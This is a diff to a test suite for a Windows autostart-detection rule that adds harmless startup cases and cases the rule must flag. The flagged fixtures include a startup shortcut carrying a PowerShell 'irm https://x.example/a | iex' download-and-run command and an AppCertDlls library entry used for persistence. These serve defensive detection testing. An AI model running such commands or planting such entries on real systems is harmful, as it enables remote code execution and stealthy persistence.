@@ -46,6 +46,13 @@ windowsRuleTester(autostartCommand, {
       policy: { kmsHosts: ['kms.corp.example'] },
     },
     {
+      name: 'a text of that name outside of the start folder, a list of values that is no list of libraries, a link that leads nowhere',
+      image: {
+        SOFTWARE: { 'Microsoft\\Windows NT\\CurrentVersion\\Windows': { Load: 'C:\\a.exe' } },
+        files: { [`${STARTUP}/b.lnk`]: makeLink({}), [`${STARTUP}/a.txt`]: 'x' },
+      },
+    },
+    {
       name: 'a link to a program',
       image: { files: { [`${STARTUP}/a.lnk`]: makeLink({ local: 'C:\\Program Files\\A\\a.exe', arguments: '--tray' }) } },
     },
@@ -74,6 +81,21 @@ windowsRuleTester(autostartCommand, {
     { name: 'a value named Shell among the starts of every logon', image: software(RUN, { Shell: 'C:\\Program Files\\S\\s.exe' }) },
   ],
   bad: [
+    ...(['local', 'items', 'expandable', 'relative'] as const).map((part) => ({
+      name: `a link that fetches, by its ${part}`,
+      image: {
+        files: { [`${STARTUP}/a.lnk`]: makeLink({ [part]: 'C:\\Windows\\Temp\\x.exe', arguments: '-c "irm https://x.example/a | iex"' }) },
+      },
+      findings: [
+        { messageId: 'fetches', at: { file: `${STARTUP}/a.lnk` } },
+        { messageId: 'fromData', at: { file: `${STARTUP}/a.lnk` } },
+      ],
+    })),
+    {
+      name: 'a library for every program that calls one',
+      image: { SYSTEM: { 'ControlSet001\\Control\\Session Manager\\AppCertDlls': { x: 'C:\\x.dll' } } },
+      findings: [{ messageId: 'library', at: at('ControlSet001\\Control\\Session Manager\\AppCertDlls', 'x', 'SYSTEM') }],
+    },
     ...['', '.exe -p', '/sysprep.exe', 'winpeshl.exe x', 'setup.exe -newsetup -x', 'oobe\\windeploy.exe & a'].flatMap((command) =>
       command === ''
         ? []
